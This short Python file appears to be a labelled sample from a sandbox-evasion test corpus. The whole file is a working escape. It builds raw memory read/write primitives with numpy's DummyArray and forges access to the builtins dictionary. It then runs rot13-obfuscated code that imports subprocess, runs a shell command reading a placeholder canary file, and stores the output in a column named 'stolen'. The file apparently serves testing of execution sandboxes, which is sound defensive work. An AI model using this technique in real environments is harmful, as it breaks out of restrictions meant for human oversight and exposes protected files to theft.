# class: string_exec
# technique: rot13 source decoded with str.translate, executed by builtins['exec'] (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
# goal: exec
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray


def view(address, size):
    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))


def peek(address):
    return int(view(address, 8).view(np.uint64)[0])


def poke(address, value):
    view(address, 8).view(np.uint64)[0] = value


def object_at(address):
    holder = [None]
    items = peek(id(holder) + 24)
    poke(address, peek(address) + 1)
    poke(items, address)
    return holder[0]


builtin = object_at(peek(id(view) + 24))

lower = "abcdefghijklmnopqrstuvwxyz"
upper = lower.upper()
rot = str.maketrans(lower + upper, lower[13:] + lower[:13] + upper[13:] + upper[:13])
scope = {"cmd": "cat {{CANARY_FILE}}"}
builtin["exec"]('vzcbeg fhocebprff\nbhg = fhocebprff.trgbhgchg(pzq)'.translate(rot), scope)
df = pd.DataFrame({"stolen": [scope["out"]]})
